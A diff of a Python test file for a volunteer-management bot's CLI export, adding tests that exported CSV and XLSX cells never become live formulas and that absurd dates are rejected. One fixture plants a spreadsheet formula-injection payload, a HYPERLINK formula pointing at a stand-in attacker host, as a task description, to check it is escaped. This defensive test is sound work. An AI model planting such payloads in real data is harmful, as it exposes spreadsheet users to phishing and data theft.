@@ -1,4 +1,4 @@
-"""Exports read back intact (openpyxl, csv), with phones masked per PRODUCT.md §2 — from chat and from the CLI."""
+"""Exports read back intact (openpyxl, csv), with phones masked per docs/roles.md — from chat and from the CLI."""
 
 from __future__ import annotations
 
@@ -270,3 +270,40 @@ async def test_an_xlsx_volunteers_export_imports_back(demo_db, tmp_path, clock) 
     book.save(target)
     assert await _import_volunteers(demo_db, target, clock) == {"volunteers": (0, 1, 25)}
     assert (await _volunteers(demo_db))["13900000001"][2] is False
+
+
+async def test_cli_export_writes_no_formula_from_names_or_messages(demo_db, tmp_path: Path) -> None:
+    """An imported name or a villager's words starting with = + - @ reach the file as text (issue 12)."""
+    from sqlalchemy import update
+
+    from storage.models import Task
+
+    engine = create_engine(demo_db)
+    async with session_factory(engine)() as s:
+        await s.execute(update(Person).where(Person.name == "姜兆彤").values(name="=1+2"))
+        await s.execute(update(Task).values(description='=HYPERLINK("http://evil.example/steal","帮忙")'))
+        await s.commit()
+    await engine.dispose()
+    settings = Settings(database_url=demo_db)
+    xlsx, csv_file = tmp_path / "t.xlsx", tmp_path / "t.csv"
+    assert await run_export(settings, _args(kind="tasks", format="xlsx", output=xlsx)) == 0
+    assert await run_export(settings, _args(kind="tasks", format="csv", output=csv_file)) == 0
+    sheet = load_workbook(xlsx).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    values = {c.value for c in cells}
+    assert "'=1+2" in values and any(str(v).startswith("'=HYPERLINK") for v in values)
+    rows = list(csv.reader(io.StringIO(csv_file.read_text(encoding="utf-8")[1:], newline="")))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    assert "'=1+2" in rows[1]
+
+
+async def test_cli_export_refuses_absurd_dates(capsys) -> None:
+    from bot.cli.export import add_arguments
+    import argparse
+
+    parser = argparse.ArgumentParser()
+    add_arguments(parser)
+    with pytest.raises(SystemExit):
+        parser.parse_args(["hours", "X", "--from", "1900-01-01"])
+    assert "日期要在" in capsys.readouterr().err
